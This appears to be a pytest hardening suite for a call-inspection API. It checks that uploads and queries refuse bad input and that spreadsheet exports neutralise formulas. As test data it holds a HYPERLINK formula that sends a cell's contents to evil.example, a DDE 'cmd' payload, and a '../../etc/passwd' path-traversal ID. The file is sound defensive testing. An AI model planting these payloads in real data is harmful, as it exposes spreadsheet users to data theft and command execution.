"""Hardening (issue 10, API side): every request a careless user or an attacker can send is a 4xx naming
the field and the reason, loses nothing, and leaves nothing behind; exports are safe to open in Excel."""

from __future__ import annotations

import asyncio
import io
import re
import wave
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest
from sqlalchemy import func, select

from api.app import API_PREFIX
from api.schemas.calls import mask_phone
from inspector.settings import ApiSettings
from inspector.store.schema import Call

TZ = ZoneInfo("Asia/Shanghai")
CJK = re.compile(r"[\u4e00-\u9fff]")
SAMPLE = "call01_leak_stereo"
HUGE = "99999999999999999999"


def _upload(client, headers, path: Path, name: str | None = None, **fields: str):
    data = {"agent_id": "8001", **fields}
    with path.open("rb") as f:
        return client.post(f"{API_PREFIX}/calls", headers=headers, data=data,
                           files={"audio": (name or path.name, f, "audio/wav")})  # fmt: skip


def _calls(database) -> list[Call]:
    with database.session() as session:
        return list(session.scalars(select(Call)))


def _call_count(database) -> int:
    with database.session() as session:
        return int(session.scalar(select(func.count()).select_from(Call)))


def _blobs(settings) -> list[Path]:
    root = settings.audio_store_dir
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _assert_field_error(response: httpx.Response, field: str, status: int = 422) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body = response.json()
    assert body["field"] == field, body
    assert field in body["detail"] and CJK.search(body["detail"]), body
    return body


# --- 1. blank optional fields are absent ----------------------------------------------------------


@pytest.mark.parametrize(
    "blank", [{"call_id": ""}, {"caller": ""}, {"team": " "}, {"started_at": ""}, {"direction": " "}]
)
def test_blank_optional_upload_fields_are_absent(client, headers, samples_dir, database, blank) -> None:
    response = _upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav", **blank)
    assert response.status_code == 202, response.text
    (call,) = _calls(database)
    assert call.id == response.json()["call_id"] and len(call.id) == 32  # generated when blank
    name = next(iter(blank))
    column = {"team": "team_id"}.get(name, name)
    if name != "call_id":
        assert getattr(call, column, None) is None


# --- 2. control characters ------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["agent_id", "call_id", "caller", "team"])
def test_control_characters_in_upload_fields_are_refused(client, headers, samples_dir, database, settings,
                                                         field) -> None:  # fmt: skip
    response = _upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav", **{field: "70\x0001"})
    body = _assert_field_error(response, field)
    assert "控制字符" in body["detail"]
    assert _call_count(database) == 0 and _blobs(settings) == []


def test_control_characters_in_queries_and_json_bodies_are_refused(client, headers) -> None:
    _assert_field_error(client.get(f"{API_PREFIX}/calls", params={"agent_id": "80\x0001"}, headers=headers["admin"]),
                        "agent_id")  # fmt: skip
    _assert_field_error(client.get(f"{API_PREFIX}/alerts", params={"agent_id": "80\x1b01"},
                                   headers=headers["admin"]), "agent_id")  # fmt: skip
    body = {"agent_id": "8001", "competency": "empathy", "note": "请看\x00这里"}
    _assert_field_error(client.post(f"{API_PREFIX}/coaching", json=body, headers=headers["admin"]), "note")
    # Line breaks and tabs stay allowed in free text.
    ok = client.post(f"{API_PREFIX}/coaching", json={**body, "note": "第一行\n第二行\t完"}, headers=headers["admin"])
    assert ok.status_code != 422 or ok.json().get("field") != "note", ok.text


def _sheet_rows(content: bytes) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def test_exports_survive_control_characters_already_stored(client, headers, make_call) -> None:
    # (PostgreSQL text cannot hold NUL, so the stored ones are other control characters.)
    make_call("cc-1", "70\x0101", team="A\x0b组", agent_name="坐\x1b席", caller="138\x0712345678",
              started_at=datetime(2024, 3, 11, 9, tzinfo=TZ))  # fmt: skip
    urls = [
        "/exports/calls.xlsx",
        "/exports/calls.csv",
        "/exports/scorecards.xlsx?from=2024-03-01&to=2024-03-31",
        "/exports/scorecards.csv?from=2024-03-01&to=2024-03-31",
        "/exports/assessments.xlsx?month=2024-03",
    ]
    for url in urls:
        for who in ("admin", "reviewer"):
            response = client.get(API_PREFIX + url, headers=headers[who])
            assert response.status_code == 200, (url, who, response.text)
            if url.split("?")[0].endswith(".xlsx"):
                text = " ".join(str(v) for row in _sheet_rows(response.content) for v in row if v is not None)
            else:
                text = response.content.decode("utf-8-sig")
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text), url
    calls = _sheet_rows(client.get(f"{API_PREFIX}/exports/calls.xlsx", headers=headers["admin"]).content)
    assert calls[1][1] == "70\ufffd01" and calls[1][2] == "坐\ufffd席" and calls[1][3] == "A\ufffd组"


# --- 3. formula injection -------------------------------------------------------------------------

FORMULAS = {
    "caller": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "team": "=cmd|' /C calc'!A0",
    "agent_name": "+SUM(1,2)",
    "agent_id": "@8001",
}


@pytest.fixture
def formula_calls(make_call) -> None:
    make_call("f-1", FORMULAS["agent_id"], team=FORMULAS["team"], agent_name=FORMULAS["agent_name"],
              caller=FORMULAS["caller"], started_at=datetime(2024, 3, 11, 9, tzinfo=TZ))  # fmt: skip
    make_call("f-2", "-42", team="\tB组", agent_name="\r坐席", caller="13812345678",
              started_at=datetime(2024, 3, 12, 9, tzinfo=TZ))  # fmt: skip


def _formula_cells(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [m for n in sheets for m in re.findall(r"<f>.*?</f>", book.read(n).decode())]


def _dangerous(value: Any) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_xlsx_exports_neutralise_formulas(client, headers, formula_calls) -> None:
    urls = [
        "/exports/calls.xlsx",
        "/exports/scorecards.xlsx?from=2024-03-01&to=2024-03-31",
        "/exports/assessments.xlsx?month=2024-03",
    ]
    for url in urls:
        response = client.get(API_PREFIX + url, headers=headers["admin"])
        assert response.status_code == 200, (url, response.text)
        assert _formula_cells(response.content) == [], url
        rows = _sheet_rows(response.content)
        assert not [v for row in rows for v in row if _dangerous(v)], url
    rows = _sheet_rows(client.get(f"{API_PREFIX}/exports/calls.xlsx", headers=headers["admin"]).content)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["f-1"][1:4] == ("'" + FORMULAS["agent_id"], "'" + FORMULAS["agent_name"], "'" + FORMULAS["team"])
    assert by_id["f-1"][6] == "'" + mask_phone(FORMULAS["caller"])  # masked, and still neutralised
    assert by_id["f-2"][1] == "'-42" and by_id["f-2"][3] == "'\tB组"
    assert isinstance(by_id["f-1"][9], int | float)  # numbers stay numbers


def test_csv_exports_neutralise_formulas(client, headers, formula_calls) -> None:
    import csv

    for url in ("/exports/calls.csv", "/exports/scorecards.csv?from=2024-03-01&to=2024-03-31"):
        for who in ("admin", "reviewer"):
            response = client.get(API_PREFIX + url, headers=headers[who])
            assert response.status_code == 200, response.text
            rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
            cells = [cell for row in rows for cell in row]
            assert not [c for c in cells if _dangerous(c)], (url, who)
            assert "'" + FORMULAS["team"] in cells
    content = client.get(f"{API_PREFIX}/exports/calls.csv", headers=headers["admin"]).content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert "'" + mask_phone(FORMULAS["caller"]) in rows[2] and "'-42" in rows[1]


# --- 4. integers out of range ---------------------------------------------------------------------


@pytest.mark.parametrize("value", [HUGE, str(2**31), "0", "-1"])
@pytest.mark.parametrize(
    ("who", "method", "url", "field"),
    [
        ("agent", "GET", "/appeals?page={v}", "page"),
        ("admin", "GET", "/reviews?page={v}", "page"),
        ("admin", "GET", "/alerts?page={v}", "page"),
        ("agent", "GET", "/calls?page={v}", "page"),
        ("admin", "GET", "/teams/A组/leaderboard?min_calls={v}", "min_calls"),
        ("admin", "GET", "/alerts/{v}/deliveries", "alert_id"),
        ("admin", "POST", "/alerts/{v}/ack", "alert_id"),
        ("admin", "POST", "/alerts/{v}/redeliver", "alert_id"),
        ("admin", "POST", "/rulesets/{v}/activate", "rule_set_id"),
        ("admin", "POST", "/rulesets/{v}/rescore", "rule_set_id"),
        ("agent", "POST", "/coaching/{v}/done", "assignment_id"),
        ("admin", "POST", "/coaching/{v}/cancel", "assignment_id"),
        ("admin", "POST", "/reviews/{v}/complete", "review_id"),
        ("admin", "POST", "/appeals/{v}/resolve", "appeal_id"),
    ],
)
def test_out_of_range_integers_are_422(client, headers, who, method, url, field, value) -> None:
    body = {"decision": "rejected", "resolution": "维持"} if "resolve" in url else None
    response = client.request(method, API_PREFIX + url.format(v=value), headers=headers[who], json=body)
    _assert_field_error(response, field)


@pytest.mark.parametrize("value", [HUGE, "-1"])
def test_out_of_range_hit_index_is_422(client, headers, make_call, value) -> None:
    make_call("h-1")
    response = client.post(f"{API_PREFIX}/calls/h-1/hits/{value}/verdict", headers=headers["admin"],
                           json={"verdict": "confirmed"})  # fmt: skip
    _assert_field_error(response, "index")
    response = client.post(f"{API_PREFIX}/calls/h-1/hits/{value}/appeal", headers=headers["agent"],
                           json={"comment": "不同意"})  # fmt: skip
    _assert_field_error(response, "index")


# --- 5. dates out of range ------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00",
                                   "1900-01-01T00:00:00+08:00"])  # fmt: skip
def test_upload_start_time_out_of_range_is_422_and_keeps_nothing(client, headers, samples_dir, database, settings,
                                                                 value) -> None:  # fmt: skip
    response = _upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav", started_at=value)
    _assert_field_error(response, "started_at")
    assert _call_count(database) == 0 and _blobs(settings) == []


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("/calls?from=0001-01-01T00:00:00%2B14:00", "from"),
        ("/calls?to=9999-12-31T23:59:59-14:00", "to"),
        ("/calls?from=0001-01-01", "from"),
        ("/exports/calls.csv?to=9999-12-31", "to"),
        ("/agents/8001/scorecard?to=0001-01-01", "to"),
        ("/agents/8001/scorecard?from=9999-12-31&to=2024-01-01", "from"),
        ("/rules/precision?to=0001-01-01", "to"),
    ],
)
def test_query_dates_out_of_range_are_422(client, headers, make_call, url, field) -> None:
    make_call("d-1")
    _assert_field_error(client.get(API_PREFIX + url, headers=headers["admin"]), field)


# --- 6. concurrent uploads of one new recording ---------------------------------------------------


def _variant(data: bytes, n: int) -> bytes:
    """The same valid recording with its last sample changed: another sha256."""
    return data[:-2] + n.to_bytes(2, "little")


def test_parallel_uploads_with_conflicting_call_ids_never_fail_or_lose_audio(app, headers, samples_dir, make_call,
                                                                              database, settings) -> None:  # fmt: skip
    make_call("taken", sample="call02_angry_stereo")
    data = (samples_dir / f"{SAMPLE}.wav").read_bytes()

    async def one(client: httpx.AsyncClient, blob: bytes, call_id: str) -> httpx.Response:
        return await client.post(f"{API_PREFIX}/calls", headers=headers["admin"], data={"agent_id": "8001",
                                 "call_id": call_id}, files={"audio": ("a.wav", blob, "audio/wav")})  # fmt: skip

    async def rounds() -> list[tuple[bytes, list[httpx.Response]]]:
        transport = httpx.ASGITransport(app=app)
        results = []
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
            for n in range(8):
                blob = _variant(data, n + 1)
                ids = ["taken" if i % 3 else f"new-{n}-{i}" for i in range(10)]
                if n % 2:
                    ids = ["taken"] * 10  # every request refused: each one wants the blob gone
                results.append((blob, await asyncio.gather(*(one(client, blob, i) for i in ids))))
        return results

    import hashlib

    for blob, responses in asyncio.run(rounds()):
        statuses = sorted(r.status_code for r in responses)
        assert all(s in (200, 202, 409) for s in statuses), [r.text for r in responses if r.status_code >= 500]
        digest = hashlib.sha256(blob).hexdigest()
        registered = [c for c in _calls(database) if c.audio_sha256 == digest]
        stored = app.state.inspector.audio.exists(digest)
        assert stored == bool(registered), (statuses, len(registered))  # no lost audio, no orphan
        assert statuses.count(202) == len(registered) <= 1
    # The call that owned "taken" still has its recording.
    (taken,) = [c for c in _calls(database) if c.id == "taken"]
    assert app.state.inspector.audio.exists(taken.audio_sha256)


# --- 7. smaller -----------------------------------------------------------------------------------


def _multipart(fields: list[tuple[str, bytes]], audio: bytes, boundary: str = "b0undary", files: int = 1) -> bytes:
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value + b"\r\n"
             for name, value in fields]  # fmt: skip
    for _ in range(files):
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="audio"; filename="a.wav"\r\n'
                     "Content-Type: audio/wav\r\n\r\n".encode() + audio + b"\r\n")  # fmt: skip
    return b"".join(parts) + f"--{boundary}--\r\n".encode()


@pytest.mark.parametrize("field", ["agent_id", "team", "caller"])
def test_non_utf8_form_fields_are_refused(client, headers, samples_dir, database, settings, field) -> None:
    fields = [("agent_id", b"8001"), (field, "坐席一组".encode("gbk"))]
    if field == "agent_id":
        fields = fields[1:]
    body = _multipart(fields, (samples_dir / f"{SAMPLE}.wav").read_bytes())
    response = client.post(f"{API_PREFIX}/calls", content=body,
                           headers={**headers["admin"], "Content-Type": "multipart/form-data; boundary=b0undary"})
    body = _assert_field_error(response, field)
    assert "UTF-8" in body["detail"]
    assert _call_count(database) == 0 and _blobs(settings) == []


def test_utf8_form_fields_are_accepted(client, headers, samples_dir, database) -> None:
    response = _upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav", team="客服·一组")
    assert response.status_code == 202, response.text
    assert _calls(database)[0].agent_id == "8001"


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"agent_id": "   "}, "agent_id"),
        ({"call_id": "../../etc/passwd"}, "call_id"),
        ({"call_id": ".hidden"}, "call_id"),
        ({"call_id": "a b"}, "call_id"),
        ({"call_id": "x" * 129}, "call_id"),
        ({"call_id": "通话1"}, "call_id"),
    ],
)
def test_bad_ids_are_refused(client, headers, samples_dir, database, settings, fields, field) -> None:
    _assert_field_error(_upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav", **fields), field)
    assert _call_count(database) == 0 and _blobs(settings) == []


def test_safe_call_ids_are_accepted_and_reachable(client, headers, samples_dir) -> None:
    call_id = "PBX-2024.03.15_09:30-" + "x" * 100
    response = _upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav", call_id=call_id, agent_id=" 8001 ")
    assert response.status_code == 202 and response.json()["call_id"] == call_id
    detail = client.get(f"{API_PREFIX}/calls/{call_id}", headers=headers["admin"])
    assert detail.status_code == 200 and detail.json()["agent_id"] == "8001"


def _wav(path: Path, samples: bytes, rate: int = 8000) -> Path:
    with wave.open(str(path), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(rate)
        out.writeframes(samples)
    return path


def test_digitally_silent_wav_is_refused_at_upload(client, headers, tmp_path, database, settings) -> None:
    silent = _wav(tmp_path / "silent.wav", b"\x00\x00" * 8000 * 5)
    response = _upload(client, headers["admin"], silent)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "silent" and "无声" in body["detail"]
    assert _call_count(database) == 0 and _blobs(settings) == []
    # One audible sample at the very end is enough to be accepted.
    almost = _wav(tmp_path / "almost.wav", b"\x00\x00" * (8000 * 5 - 1) + (12000).to_bytes(2, "little"))
    assert _upload(client, headers["admin"], almost).status_code == 202


def test_a_forbidden_ack_does_not_reveal_the_agent(client, headers, make_call, database) -> None:
    from inspector.people import alerts
    from inspector.settings import AlertSettings
    from inspector.store.schema import Analysis

    make_call("b-1", "9731", team="B组", transcript_of="call02_angry_stereo")
    with database.session() as session:
        call = session.get(Call, "b-1")
        alert = alerts.raise_alert(session, AlertSettings(), call, session.get(Analysis, call.analysis_id))
        assert alert is not None
        alert_id = alert.id
    response = client.post(f"{API_PREFIX}/alerts/{alert_id}/ack", headers=headers["team_lead"], json={})
    assert response.status_code == 403 and CJK.search(response.json()["detail"])
    assert "9731" not in response.text and "agent_id" not in response.json()


def test_too_many_form_fields_or_two_audio_parts_are_400_with_a_reason(client, headers, samples_dir) -> None:
    audio = (samples_dir / f"{SAMPLE}.wav").read_bytes()[:50_000]
    multipart = {**headers["admin"], "Content-Type": "multipart/form-data; boundary=b0undary"}
    many = _multipart([("agent_id", b"8001")] + [(f"f{i}", b"x") for i in range(1001)], audio)
    response = client.post(f"{API_PREFIX}/calls", content=many, headers=multipart)
    assert response.status_code == 400 and response.json()["code"] == "too_many_fields", response.text
    assert CJK.search(response.json()["detail"]) and "字段" in response.json()["detail"]

    two = _multipart([("agent_id", b"8001")], audio, files=2)
    response = client.post(f"{API_PREFIX}/calls", content=two, headers=multipart)
    assert response.status_code == 400 and response.json()["code"] == "too_many_files", response.text
    assert "文件" in response.json()["detail"]


# --- 9. a body limit on every route ---------------------------------------------------------------


def test_every_route_has_a_body_limit(make_app, settings, headers, samples_dir) -> None:
    from fastapi.testclient import TestClient

    small = settings.model_copy(update={"api": settings.api.model_copy(update={"max_body_bytes": 4096})})
    with TestClient(make_app(small)) as client:
        big = b'{"username": "admin", "password": "' + b"x" * 10_000 + b'"}'
        response = client.post(f"{API_PREFIX}/auth/login", content=big, headers={"Content-Type": "application/json"})
        assert response.status_code == 413, response.text
        body = response.json()
        assert body["code"] == "request_too_large" and body["limit_bytes"] == 4096 and CJK.search(body["detail"])

        def chunked():  # no Content-Length: counted while it arrives
            yield b'{"note": "'
            for _ in range(10):
                yield b"y" * 1000
            yield b'"}'

        response = client.post(f"{API_PREFIX}/coaching/1/done", content=chunked(),
                               headers={**headers["admin"], "Content-Type": "application/json"})  # fmt: skip
        assert response.status_code == 413 and response.json()["code"] == "request_too_large"
        # Uploads keep their own, larger limit.
        assert _upload(client, headers["admin"], samples_dir / f"{SAMPLE}.wav").status_code == 202
        ok = client.post(f"{API_PREFIX}/auth/login", json={"username": "nobody", "password": "x"})
        assert ok.status_code == 401


def test_body_limit_default_is_set() -> None:
    assert ApiSettings().max_body_bytes == 1024 * 1024


# --- 10. the OpenAPI document tells the truth -----------------------------------------------------


def test_openapi_documents_the_real_error_shape_and_media_types(client, headers) -> None:
    from api.schemas.errors import ErrorOut

    spec = client.get("/openapi.json").json()
    schemas = spec["components"]["schemas"]
    assert "HTTPValidationError" not in schemas
    error_ref = "#/components/schemas/ErrorOut"
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            responses = operation["responses"]
            public = path.removeprefix(API_PREFIX) in ("/healthz", "/vocabulary", "/auth/login", "/auth/logout")
            for status in ("404", "413", "422") if public else ("401", "403", "404", "413", "422"):
                assert status in responses, (method, path, status)
            for status, response in responses.items():
                if status.startswith("4"):
                    schema = response["content"]["application/json"]["schema"]
                    assert schema == {"$ref": error_ref}, (method, path, status)
    assert schemas["ErrorOut"]["properties"]["detail"]["type"] == "string"
    for path, media in ((f"{API_PREFIX}/exports/calls.csv", "text/csv"),
                        (f"{API_PREFIX}/exports/scorecards.xlsx",
                         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")):  # fmt: skip
        content = spec["paths"][path]["get"]["responses"]["200"]["content"]
        assert list(content) == [media], path
    assert "409" in spec["paths"][f"{API_PREFIX}/calls"]["post"]["responses"]
    assert "415" in spec["paths"][f"{API_PREFIX}/calls"]["post"]["responses"]
    assert "429" in spec["paths"][f"{API_PREFIX}/auth/login"]["post"]["responses"]

    # The documented model is what a real 422 / 404 / 401 body is.
    for response in (
        client.get(f"{API_PREFIX}/calls?page=abc", headers=headers["admin"]),
        client.get(f"{API_PREFIX}/calls/nope", headers=headers["admin"]),
        client.get(f"{API_PREFIX}/calls"),
    ):
        assert response.status_code in (401, 404, 422)
        ErrorOut.model_validate(response.json())
        assert isinstance(response.json()["detail"], str)
